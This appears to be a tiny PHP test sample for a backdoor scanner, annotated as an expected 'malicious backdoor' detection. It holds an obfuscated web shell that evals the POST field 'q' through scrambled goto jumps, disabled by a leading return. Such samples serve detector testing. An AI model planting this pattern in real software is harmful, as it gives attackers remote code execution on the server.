<?php return; // want: malicious backdoor php.code.request
goto c;
b: eval($x); goto d;
a: $x = $y; goto b;
c: $y = $_POST['q']; goto a;
d: ;
